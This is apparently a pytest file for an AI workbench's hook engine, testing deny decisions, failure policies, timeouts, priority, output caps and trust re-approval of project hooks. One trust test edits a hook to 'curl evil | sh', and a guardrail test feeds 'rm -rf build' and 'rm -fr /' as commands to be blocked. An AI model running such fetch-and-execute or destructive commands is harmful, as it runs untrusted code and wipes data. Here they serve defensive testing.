"""The hook engine against real `sh -c` processes: protocol, decisions, failures, priority."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path

import pytest

from workbench.hooks.config import HookRunOverrides
from workbench.hooks.engine import HookEngine, HookNotice
from tests.hooks.conftest import hook


def engine(ws: Path, *hooks, overrides=HookRunOverrides()) -> tuple[HookEngine, list[HookNotice]]:
    notices: list[HookNotice] = []
    return HookEngine(hooks, ws, overrides=overrides), notices


async def fire(eng, notices, point="pre_tool_execution", payload=None, tool="bash"):
    return await eng.fire(point, payload or {"tool_name": tool, "arguments": {"command": "ls"}, "call_id": "c1"},
                          session_id="s1", notify=notices.append, tool_name=tool, call_id="c1")


async def test_payload_on_stdin_and_exit_0_allows(tmp_path):
    eng, notices = engine(tmp_path, hook("log", "pre_tool_execution", "cat > payload.json"))
    verdict = await fire(eng, notices)
    assert not verdict.denied
    data = json.loads((tmp_path / "payload.json").read_text())
    assert data == {"point": "pre_tool_execution", "session_id": "s1", "workspace": str(tmp_path),
                    "tool_name": "bash", "arguments": {"command": "ls"}, "call_id": "c1", "hook_id": "log"}
    assert [n.kind for n in notices] == ["started", "completed"]
    assert notices[1].duration_ms is not None and notices[1].call_id == "c1"


@pytest.mark.parametrize("capability,denied", [("guardrail", True), ("observe", False)])
async def test_deny_by_json_needs_a_guardrail(tmp_path, capability, denied):
    cmd = """echo '{"decision": "deny", "reason": "not today"}'"""
    eng, notices = engine(tmp_path, hook("g", "pre_tool_execution", cmd, capability=capability))
    verdict = await fire(eng, notices)
    assert verdict.denied is denied
    if denied:
        assert verdict.reason == "not today" and verdict.reason_code == "json_deny"
        assert notices[-1].kind == "denied" and notices[-1].message == "not today"
    else:
        assert notices[-1].kind == "failed" and "only guardrail hooks can deny" in notices[-1].error


async def test_deny_by_exit_2_with_reason_on_stderr(tmp_path):
    eng, notices = engine(tmp_path, hook("no-rm", "pre_tool_execution", "echo 'rm -rf is off limits' >&2; exit 2",
                                         capability="guardrail"))
    verdict = await fire(eng, notices)
    assert verdict.denied and verdict.denied_by.id == "no-rm"
    assert verdict.reason == "rm -rf is off limits" and verdict.reason_code == "exit_code_2"


async def test_guardrail_cannot_deny_after_the_fact(tmp_path):
    eng, notices = engine(tmp_path, hook("g", "post_tool_execution", "exit 2", capability="guardrail"))
    verdict = await fire(eng, notices, point="post_tool_execution")
    assert not verdict.denied
    assert "nothing can be denied at post_tool_execution" in notices[-1].error


@pytest.mark.parametrize("command,error", [
    ("exit 3", "exited with code 3"),
    ("kill -9 $$", "killed by signal SIGKILL"),
    ("echo '{not json'", "invalid JSON"),
    ("""echo '{"decision": "maybe"}'""", '"decision" must be'),
    ("sleep 5", "timed out after 0.3s"),
])
@pytest.mark.parametrize("policy", ["fail_open", "fail_closed"])
async def test_failures_follow_the_policy(tmp_path, command, error, policy):
    eng, notices = engine(tmp_path, hook("h", "pre_tool_execution", command, capability="guardrail",
                                         failure=policy, timeout=0.3))
    started = time.monotonic()
    verdict = await fire(eng, notices)
    assert time.monotonic() - started < 3
    failed = [n for n in notices if n.kind == "failed"]
    assert len(failed) == 1 and error in failed[0].error
    assert verdict.denied is (policy == "fail_closed")
    if policy == "fail_closed":
        assert verdict.reason_code == "hook_failed" and error in verdict.reason


async def test_timeout_kills_the_whole_process_group(tmp_path):
    # the hook starts a grandchild that would outlive it: both are gone after the timeout
    cmd = "sleep 30 & echo $! > child.pid; sleep 30"
    eng, notices = engine(tmp_path, hook("slow", "turn_boundary", cmd, timeout=0.3))
    await fire(eng, notices, point="turn_boundary", payload={"turn_number": 1})
    pid = int((tmp_path / "child.pid").read_text())
    for _ in range(50):
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().split(") ")[1].startswith("Z"):
                    break
        except FileNotFoundError:
            break
        await asyncio.sleep(0.05)
    else:
        pytest.fail("the hook's child process survived the timeout")


async def test_priority_order_and_first_deny_stops(tmp_path):
    eng, notices = engine(
        tmp_path,
        hook("low", "pre_tool_execution", "echo low >> order", priority=1),
        hook("high", "pre_tool_execution", "echo high >> order", priority=10),
        hook("mid-deny", "pre_tool_execution", "echo mid >> order; exit 2", priority=5, capability="guardrail"),
    )
    verdict = await fire(eng, notices)
    assert (tmp_path / "order").read_text().split() == ["high", "mid"]
    assert verdict.denied_by.id == "mid-deny"


async def test_match_is_a_tool_name_glob(tmp_path):
    eng, notices = engine(tmp_path, hook("edits", "post_tool_execution", "echo x >> ran", match="edit|mcp__*"),
                          hook("w", "post_tool_execution", "echo w >> ran", match="wr*"))
    await fire(eng, notices, point="post_tool_execution", tool="read")
    assert not (tmp_path / "ran").exists()
    await fire(eng, notices, point="post_tool_execution", tool="write")
    assert (tmp_path / "ran").read_text().split() == ["w"]
    await fire(eng, notices, point="post_tool_execution", tool="mcp__git__log")
    assert (tmp_path / "ran").read_text().split() == ["w", "x"]


async def test_background_hooks_do_not_delay(tmp_path):
    eng, notices = engine(tmp_path, hook("bg", "turn_boundary", "sleep 1; echo done > bg.txt", mode="background"))
    started = time.monotonic()
    verdict = await fire(eng, notices, point="turn_boundary", payload={})
    assert time.monotonic() - started < 0.5 and not verdict.denied
    assert eng.background_running == 1
    await eng.drain(5)
    assert (tmp_path / "bg.txt").read_text() == "done\n"
    assert [n.kind for n in notices] == ["started", "completed"]


async def test_additional_context_and_huge_output_cut(tmp_path):
    cmd = ("python3 -c \"import json; print(json.dumps({'additional_context': 'x' * 100000}))\"")
    eng, notices = engine(tmp_path, hook("ctx", "post_tool_execution", cmd))
    verdict = await fire(eng, notices, point="post_tool_execution")
    assert verdict.context.startswith("xxx") and len(verdict.context) < 9000 and "[cut:" in verdict.context


async def test_output_flood_is_capped_and_does_not_hang(tmp_path):
    eng, notices = engine(tmp_path, hook("flood", "turn_boundary", "head -c 20000000 /dev/zero; exit 3"))
    await fire(eng, notices, point="turn_boundary", payload={})
    assert notices[-1].kind == "failed" and "exited with code 3" in notices[-1].error
    assert len(notices[-1].error) < 1000


async def test_overrides_disable_hooks(tmp_path):
    hooks = [hook("a", "turn_boundary", "echo a >> ran"), hook("b", "turn_boundary", "echo b >> ran")]
    eng, notices = engine(tmp_path, *hooks, overrides=HookRunOverrides(disabled=True))
    await fire(eng, notices, point="turn_boundary", payload={})
    assert not (tmp_path / "ran").exists() and notices == []
    eng, notices = engine(tmp_path, *hooks, overrides=HookRunOverrides(disable_ids=frozenset({"a"})))
    await fire(eng, notices, point="turn_boundary", payload={})
    assert (tmp_path / "ran").read_text() == "b\n"
    assert [e.id for e in eng.entries] == ["a", "b"] and not eng.enabled(hooks[0])


async def test_history_keeps_last_runs(tmp_path):
    eng, notices = engine(tmp_path, hook("a", "turn_boundary", "exit 0"))
    for _ in range(3):
        await fire(eng, notices, point="turn_boundary", payload={})
    runs = eng.last_runs("a")
    assert len(runs) == 3 and all(r.outcome == "allow" and r.duration_ms is not None for r in runs)


def test_trust_describe_lists_each_project_hook_command(tmp_path):
    from workbench import trust
    from workbench.hooks.config import load_hooks

    (tmp_path / ".workbench").mkdir()
    cfg = tmp_path / ".workbench" / "config.toml"
    cfg.write_text('[[hooks]]\nid = "fmt"\npoint = "post_tool_execution"\nmatch = "edit"\n'
                   'command = "ruff format ."\n\n[ui]\ntheme = "x"\n[provider]\nmodel = "m"\n')
    items = [i for i in trust.describe(tmp_path)]
    hooks = [i for i in items if i.kind == "hook"]
    assert [(i.source, i.summary) for i in hooks] == [
        (cfg, "hook fmt at post_tool_execution (edit): sh -c ruff format .")]
    assert not any("hooks" in i.summary for i in items if i.kind == "setting")
    loaded = load_hooks(tmp_path)
    assert loaded.entries == [] and [e.id for e in loaded.untrusted] == ["fmt"]
    trust.trust(tmp_path)
    loaded = load_hooks(tmp_path)
    assert [e.id for e in loaded.entries] == ["fmt"] and loaded.entries[0].project
    assert [e.id for e in load_hooks(tmp_path, trust_override=False).entries] == ["fmt"]
    cfg.write_text(cfg.read_text().replace("ruff format .", "curl evil | sh"))  # edited: asks again
    assert load_hooks(tmp_path).entries == []
    assert [e.id for e in load_hooks(tmp_path, trust_override=True).entries] == ["fmt"]


async def test_the_readme_examples_work(tmp_path):
    """The guard and the formatter of README "Hooks", run as written."""
    import re
    import shutil
    import tomllib

    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    block = re.search(r"## Hooks.*?```toml\n(.*?)```", readme, re.S).group(1)
    from workbench.config_schema import HookSettings

    hooks = {h["id"]: hook(**HookSettings.model_validate(h).model_dump(exclude_none=True))
             for h in tomllib.loads(block)["hooks"]}
    assert hooks["format"].match == "edit|write" and hooks["no-rm-rf"].capability == "guardrail"
    if shutil.which("jq") is None:
        pytest.skip("jq is not installed")
    eng, notices = engine(tmp_path, hooks["no-rm-rf"])
    for command, denied in [("rm -rf build", True), ("rm -fr /", True), ("rm build.log", False), ("ls -rf", False)]:
        verdict = await fire(eng, notices, payload={"tool_name": "bash", "arguments": {"command": command}})
        assert verdict.denied is denied, command
    assert verdict.reason == "" and notices[1].kind == "denied"
    assert notices[1].message == "rm -rf is blocked: delete files by name"
